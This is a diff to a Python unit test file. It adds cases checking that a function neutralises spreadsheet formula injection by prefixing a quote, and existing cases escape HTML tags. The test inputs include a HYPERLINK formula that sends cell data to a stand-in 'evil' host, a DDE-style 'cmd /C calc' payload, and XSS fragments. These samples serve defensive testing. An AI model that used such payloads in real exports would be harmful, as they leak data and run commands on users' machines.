@@ -21,6 +21,26 @@ class TestPlainLine(TestCase):
 
 	@rows(
 		[
+			('=HYPERLINK("http://evil/"&A1,"x")', '\'=HYPERLINK("http://evil/"&A1,"x")'),
+			("\t=1+1", "'\t=1+1"),
+			("＝cmd", "'＝cmd"),
+			("@SUM(1)", "'@SUM(1)"),
+			("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+			("+SUM(A1)", "'+SUM(A1)"),
+			("'=1", "'=1"),
+			("+86 139 0000 1234", "+86 139 0000 1234"),
+			("-5", "-5"),
+			("- 已与家长联系", "- 已与家长联系"),
+			("=", "="),
+			("a=b", "a=b"),
+			("", ""),
+		],
+	)
+	def test_without_formula(self, text, kept):
+		assert plain_line.without_formula(text) == kept
+
+	@rows(
+		[
 			("体温<36", "体温＜36"),
 			("<b>好</b> <img src=x", "<b>好</b> ＜img src=x"),
 			("好\n<svg\nonload=x", "好\n＜svg\nonload=x"),
